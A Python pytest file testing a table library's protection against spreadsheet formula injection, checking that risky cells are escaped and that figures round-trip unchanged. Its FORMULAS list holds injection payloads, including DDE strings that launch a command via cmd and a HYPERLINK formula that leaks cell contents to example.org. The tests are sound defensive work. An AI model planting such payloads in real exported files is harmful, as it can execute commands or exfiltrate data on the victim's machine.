"""No cell of a table is a formula, figures stay figures, and our own readers get back what was written."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from anaphora.core.columns import plain_cell, read_columns, safe_cell, tsv_line
from anaphora.languages.pair_list import read_pair_list
from anaphora.table import Row, Table

FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    '=HYPERLINK("http://example.org/?"&A1)',
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
    "-bash",
    "@name",
    "-SUM(A1)",
)
FIGURES = ("-0.5", "+0.5", "-1e-05", "−0.5", "+1.2 [-0.1, 2.5]", "-0.012**", "-", "–", "12", "-3 %", "")


@pytest.mark.parametrize("text", FORMULAS)
def test_formulas_are_marked(text: str) -> None:
    assert safe_cell(text) == f"'{text}"
    assert tsv_line([text])[0] == "'"
    table = Table("t", ("", text), (Row((text,), section=True), Row((text, text), indent=1)))
    for cell in table.render("tsv").replace("\n", "\t").split("\t"):
        assert cell[:1] not in tuple("=+-@＝\r")
    for row in csv.reader(io.StringIO(table.render("csv"))):
        assert not any(cell[:1] in tuple("=+-@＝\t\r ") for cell in row if cell)


@pytest.mark.parametrize("text", [*FIGURES, "it", "il's", "'tis", "a=b", "c'"])
def test_figures_and_words_stay_as_they_are(text: str) -> None:
    assert safe_cell(text) == plain_cell(text) == text


@given(st.text(alphabet="'’=+-@ \t＝a1", max_size=8) | st.text())
def test_what_is_written_is_read_back(text: str) -> None:
    assert plain_cell(safe_cell(text)) == text


def test_our_readers_take_the_mark_away(tmp_path: Path) -> None:
    path = tmp_path / "scores.tsv"
    names = ["=A1", "+b", "'-c", "-0.5", "plain"]
    path.write_text("".join(tsv_line(row) + "\n" for row in [("system", "=human"), *((name, "-1") for name in names)]))
    table = read_columns(path)
    assert table.names == ("system", "=human")
    assert [record.cells["system"] for record in table.records] == names
    assert [record.number("=human") for record in table.records] == [-1.0] * 5


def test_a_pair_list_with_odd_words(tmp_path: Path) -> None:
    path = tmp_path / "pairs.tsv"
    header = ("reference", "system", "agreement", "REF", "SYS", "Tie")
    rows = [header, ("=he", "@it", "-0.25", "3", "1", "0")]
    path.write_text("".join(tsv_line(row) + "\n" for row in rows))
    assert path.read_text().splitlines()[1].startswith("'=he\t'@it\t-0.25\t")
    ((pair, judged),) = read_pair_list(path).items()
    assert (pair, judged.agreement) == ("=he:@it", -0.25)
